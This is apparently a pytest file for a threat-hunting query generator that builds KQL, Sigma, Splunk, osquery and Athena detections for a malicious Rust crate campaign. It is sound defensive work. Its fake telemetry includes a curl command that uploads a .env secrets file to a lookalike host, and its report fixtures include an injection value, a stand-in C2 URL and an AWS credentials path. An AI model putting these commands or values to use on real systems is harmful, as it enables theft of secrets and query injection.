"""Queries are read by the parsers of their languages, and find what they are made for."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Iterator
from datetime import UTC, datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import duckdb
import duckdb_kql
import pytest
import sqlglot
from antlr4 import InputStream
from kusto_query_language_parser.parser.kql_traverse import KqlTraverse
from pygments.token import Error, Keyword
from pygments_lexer_spl import SPLLexer
from sigma.backends.kusto import KustoBackend
from sigma.backends.splunk import SplunkBackend
from sigma.collection import SigmaCollection
from sigma.pipelines.microsoftxdr import microsoft_xdr_pipeline
from sigma.pipelines.sentinelasim import sentinel_asim_pipeline
from sigma.plugins import InstalledSigmaPlugins
from sigma.validation import SigmaValidator

from analyzer.errors import UsageError
from analyzer.project.incident.load import load_knowledge
from analyzer.project.queries import languages, render
from analyzer.project.queries.subject import Subject, of_campaign, of_report
from analyzer.signatures import load_signatures

KNOWN = load_knowledge(None)
SIGNATURES = load_signatures()
SUBJECTS = {one.id: of_campaign(one, KNOWN, SIGNATURES) for one in KNOWN.campaigns}
TIME = SUBJECTS["time-utilities"]
every = pytest.mark.parametrize("subject", SUBJECTS.values(), ids=lambda one: one.id)


def test_there_is_a_query_in_every_language_the_issue_names() -> None:
    assert set(languages()) == {"kql", "sigma", "splunk", "osquery", "athena"}


# KQL ----------------------------------------------------------------------------------------------


def kql(subject: Subject) -> list[str]:
    return render("kql", subject).rstrip("\n").split("\n\n")


@every
def test_kql_is_accepted_by_its_grammar(subject: Subject) -> None:
    for one in kql(subject):
        KqlTraverse().parse(InputStream(one))
        assert duckdb_kql.parse(one)


def test_the_grammar_can_refuse(capfd: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SyntaxError):
        KqlTraverse().parse(InputStream(kql(TIME)[0].replace("| where", "| | where", 1)))
    capfd.readouterr()


def test_the_founding_campaign_covers_processes_network_lookalikes_and_volume() -> None:
    text = render("kql", TIME)
    tables = set(re.findall(r"^(Device\w+|CommonSecurityLog|ASim\w+)$", text, re.MULTILINE))
    assert {"DeviceProcessEvents", "DeviceNetworkEvents", "DeviceFileEvents"} <= tables
    assert {"CommonSecurityLog", "ASimNetworkSessionLogs", "ASimDnsActivityLogs"} <= tables
    assert all(f'"{one.name}"' in text for one in KNOWN.members("time-utilities"))
    assert '"timeapis.io"' in text
    assert "SentBytes" in text
    assert "threshold = 1000" in text


class Telemetry:
    """Tables of the console, filled with what machines would report."""

    def __init__(self) -> None:
        self.connection = duckdb_kql.connect()
        self.tables: dict[str, list[dict[str, Any]]] = {}

    def add(self, table: str, **row: object) -> None:
        self.tables.setdefault(table, []).append(row)

    def run(self, text: str) -> list[dict[str, Any]]:
        names = set(re.findall(r"\b[A-Z][A-Za-z0-9]+\b", text))
        for table, rows in self.tables.items():
            columns = sorted(names | {key for row in rows for key in row})
            kinds = [f'"{one}" {_kind(one)}' for one in columns]
            self.connection.execute(f"CREATE OR REPLACE TABLE {table} ({', '.join(kinds)})")
            for row in rows:
                values = [row.get(one, None if _kind(one) != "VARCHAR" else "") for one in columns]
                marks = ", ".join("?" for _ in columns)
                self.connection.execute(f"INSERT INTO {table} VALUES ({marks})", values)
        found = duckdb_kql.query(self.connection, text)
        assert isinstance(found, duckdb.DuckDBPyRelation)
        return [dict(zip(found.columns, one, strict=True)) for one in found.fetchall()]


def _kind(column: str) -> str:
    if column in ("Timestamp", "TimeGenerated"):
        return "TIMESTAMP"
    return "BIGINT" if column in ("SentBytes", "SrcBytes", "RemotePort") else "VARCHAR"


@pytest.fixture
def telemetry() -> Iterator[Telemetry]:
    made = Telemetry()
    yield made
    made.connection.close()


DAY = datetime(2026, 3, 4, 12, tzinfo=UTC)


def query(table: str, start: str) -> str:
    (found,) = [
        one
        for one in kql(TIME)
        if one.startswith(f"// {start}") and re.search(rf"^{table}$", one, re.MULTILINE)
    ]
    return found


def test_kql_finds_the_process_and_not_another(telemetry: Telemetry) -> None:
    line = "rustc --crate-name chrono_anchor src/lib.rs"
    telemetry.add("DeviceProcessEvents", Timestamp=DAY, ProcessCommandLine=line, DeviceName="a")
    telemetry.add(
        "DeviceProcessEvents", Timestamp=DAY, ProcessCommandLine="rustc --crate-name chrono"
    )
    early = datetime(2025, 1, 1, tzinfo=UTC)
    telemetry.add("DeviceProcessEvents", Timestamp=early, ProcessCommandLine=line, DeviceName="b")
    rows = telemetry.run(query("DeviceProcessEvents", "Processes"))
    assert [one["DeviceName"] for one in rows] == ["a"]


def test_kql_finds_lookalike_hosts_and_not_the_honest_one(telemetry: Telemetry) -> None:
    for url in (
        "timeapis.io",
        "timeapi-io.com",
        "https://timeapi.io/x",
        "api.timeapi.io",
        "example.invalid",
    ):
        telemetry.add(
            "DeviceNetworkEvents",
            Timestamp=DAY,
            RemoteUrl=url,
            InitiatingProcessFileName="curl",
            RemoteIP="192.0.2.1",
            RemotePort=80,
        )
    rows = telemetry.run(query("DeviceNetworkEvents", "Connections"))
    assert {one["RemoteUrl"] for one in rows} == {"timeapis.io", "timeapi-io.com"}


def test_kql_tells_volume_above_the_threshold(telemetry: Telemetry) -> None:
    for source, sent in (("192.0.2.7", 600), ("192.0.2.7", 600), ("192.0.2.8", 900)):
        telemetry.add(
            "CommonSecurityLog",
            TimeGenerated=DAY,
            SourceIP=source,
            DestinationHostName="timeapis.io",
            SentBytes=sent,
        )
    (row,) = telemetry.run(query("CommonSecurityLog", "Bytes"))
    assert (row["SourceIP"], row["Sent"]) == ("192.0.2.7", 1200)


def test_kql_finds_the_upload_beneath_a_built_program(telemetry: Telemetry) -> None:
    for folder, line in (
        ("/w/target/debug", "curl -s -F file=@.env http://timeapis.io/api"),
        ("/usr/bin", "curl -s -F file=@.env http://timeapis.io/api"),
        ("/w/target/debug", "curl -s https://timeapi.io/api"),
    ):
        telemetry.add(
            "DeviceProcessEvents",
            Timestamp=DAY,
            FileName="curl",
            ProcessCommandLine=line,
            InitiatingProcessFolderPath=folder,
        )
    rows = telemetry.run(query("DeviceProcessEvents", "Uploads"))
    assert [one["InitiatingProcessFolderPath"] for one in rows] == ["/w/target/debug"]


# Sigma --------------------------------------------------------------------------------------------


@every
def test_sigma_rules_are_valid_and_convert(subject: Subject) -> None:
    """Validators of tags fetch their lists from a network: they are left out."""
    rules = SigmaCollection.from_yaml(render("sigma", subject))
    assert len(rules.rules) >= 3
    known = InstalledSigmaPlugins.autodiscover().validators
    wanted = {one for name, one in known.items() if "tag" not in name}
    issues = [
        one
        for one in SigmaValidator(wanted).validate_rules(iter(rules.rules))
        if one.severity.name != "LOW"
    ]
    assert issues == []
    count = len(rules.rules)
    assert len(SplunkBackend().convert(rules)) == count
    assert _converted(subject, ("proxy",), sentinel_asim_pipeline) or not subject.hosts
    machine = ("process_creation", "network_connection", "file_event")
    assert _converted(subject, machine, microsoft_xdr_pipeline)


def _converted(subject: Subject, categories: tuple[str, ...], pipeline: Any) -> list[str]:
    """KQL of the rules whose logs a pipeline knows. Conversion changes rules and pipelines: both
    are new for each.
    """
    texts = render("sigma", subject).split("---\n")
    wanted = [one for one in texts if any(f'category: "{c}"' in one for c in categories)]
    found: list[str] = []
    for one in wanted:
        backend = KustoBackend(processing_pipeline=pipeline())
        found += backend.convert(SigmaCollection.from_yaml(one))
    assert len(found) == len(wanted)
    return found


# SQL ----------------------------------------------------------------------------------------------


@every
def test_athena_statements_parse(subject: Subject) -> None:
    parsed = sqlglot.parse(render("athena", subject), read="athena")
    assert len(parsed) == 6
    assert all(one is not None and one.find(sqlglot.exp.Table) for one in parsed)


def test_athena_without_days_speaks_of_the_last_ninety() -> None:
    from dataclasses import replace

    text = render("athena", replace(TIME, from_="", to="2026-03-10"))
    assert "INTERVAL '90' DAY" in text
    assert "'2026-03-10T23:59:59Z'" in text
    assert sqlglot.parse(text, read="athena")


OSQUERY = {
    "file": "path directory size btime mtime atime",
    "hash": "path sha256",
    "processes": "pid parent name path cmdline start_time",
    "users": "uid username",
    "shell_history": "uid time command",
    "process_open_sockets": "pid remote_address remote_port",
    "authorized_keys": "uid algorithm key comment key_file",
    "systemd_units": "fragment_path description",
    "crontab": "path command",
}
"""The tables that are asked, as osquery documents them."""


@every
def test_osquery_runs_in_the_engine_that_osquery_uses(subject: Subject) -> None:
    machine = sqlite3.connect(":memory:")
    for table, columns in OSQUERY.items():
        machine.execute(f"CREATE TABLE {table} ({', '.join(columns.split())})")
    pack = json.loads(render("osquery", subject))["queries"]
    for one in pack.values():
        assert sqlglot.parse_one(one["query"], read="sqlite")
        machine.execute(one["query"]).fetchall()
    machine.close()


def test_osquery_finds_a_cached_archive() -> None:
    machine = sqlite3.connect(":memory:")
    for table, columns in OSQUERY.items():
        machine.execute(f"CREATE TABLE {table} ({', '.join(columns.split())})")
    for name in ("chrono_anchor-0.1.0.crate", "chrono-0.4.0.crate"):
        path = f"/home/u/.cargo/registry/cache/i-1/{name}"
        machine.execute("INSERT INTO file (path) VALUES (?)", (path,))
    text = json.loads(render("osquery", TIME))["queries"]["cargo_cache"]["query"]
    assert [row[0].rpartition("/")[2] for row in machine.execute(text)] == [
        "chrono_anchor-0.1.0.crate"
    ]
    machine.close()


# Splunk -------------------------------------------------------------------------------------------

_PIPE = re.compile(r"(?:tstats|where|sort|rename)\b")


@every
def test_splunk_searches_are_well_formed(subject: Subject) -> None:
    """No parser of SPL is to be had: its lexer must know every word, quotes, brackets and the order
    of `tstats` are checked here, and Sigma's converter is the second way to Splunk.
    """
    for one in render("splunk", subject).rstrip("\n").split("\n\n"):
        title, _, text = one.partition("\n")
        assert re.fullmatch(r"```[^`]+```", title)
        bare = re.sub(r'"[^"\n]*"', '""', text)
        assert bare.count('"') % 2 == 0
        depth = 0
        for sign in bare:
            depth += {"(": 1, ")": -1}.get(sign, 0)
            assert depth >= 0
        assert depth == 0
        stages = [stage.strip() for stage in bare.split("|")]
        assert stages[0] == ""
        assert all(_PIPE.match(stage) for stage in stages[1:])
        tstats = stages[1]
        places = [tstats.index(word) for word in (" from datamodel=", "where ", " by ")]
        assert places == sorted(places)
        assert _commands(text) == [_PIPE.match(stage)[0] for stage in stages[1:]]  # type: ignore[index]


def _commands(text: str) -> list[str]:
    """The commands that the lexer of SPL knows; an unknown sign fails."""
    tokens = [(kind, word) for kind, word in SPLLexer().get_tokens(text) if word.strip()]
    assert not [word for kind, word in tokens if kind in Error]
    pairs = pairwise(tokens)
    return [word for (_, before), (kind, word) in pairs if before == "|" and kind in Keyword]


# Subjects -----------------------------------------------------------------------------------------


def _report(path: Path, **more: object) -> Path:
    report = {
        "schema": "cratescope.report/v1",
        "crate": {"name": 'x"; drop', "version": "1.0.0"},
        "indicators": [
            {"kind": "url", "value": "https://c2.example.invalid/a"},
            {"kind": "url", "value": "https://github.com/x"},
            {"kind": "address", "value": "192.0.2.9:443"},
            {"kind": "url", "value": 'https://a"b\ninvalid/x'},
        ],
        "findings": [{"evidence": [{"kind": "file.read", "subject": "{home}/.aws/credentials"}]}],
    }
    path.write_text(json.dumps(report | more))
    return path


def test_a_reports_indicators_become_queries(tmp_path: Path) -> None:
    subject = of_report(_report(tmp_path / "r.json"), SIGNATURES)
    assert subject.hosts == ("c2.example.invalid",)
    assert subject.addresses == ("192.0.2.9",)
    assert subject.files == ("~/.aws/credentials",)


def test_what_a_report_smuggles_in_reaches_no_query(tmp_path: Path) -> None:
    subject = of_report(_report(tmp_path / "r.json"), SIGNATURES)
    assert subject.names == ()
    assert subject.dropped >= 1
    for language in languages():
        assert "drop" not in render(language, subject)
    for one in kql(subject):
        KqlTraverse().parse(InputStream(one))


@pytest.mark.parametrize("text", ["", "[]", "{}", "not json", '{"schema": "x"}'])
def test_what_is_no_report_is_refused(text: str, tmp_path: Path) -> None:
    file = tmp_path / "r.json"
    file.write_text(text)
    with pytest.raises(UsageError, match="no report"):
        of_report(file, SIGNATURES)


@pytest.mark.parametrize("language", languages())
def test_the_same_subject_gives_the_same_text(language: str) -> None:
    assert render(language, TIME) == render(language, TIME)
    assert render(language, TIME).endswith("\n")
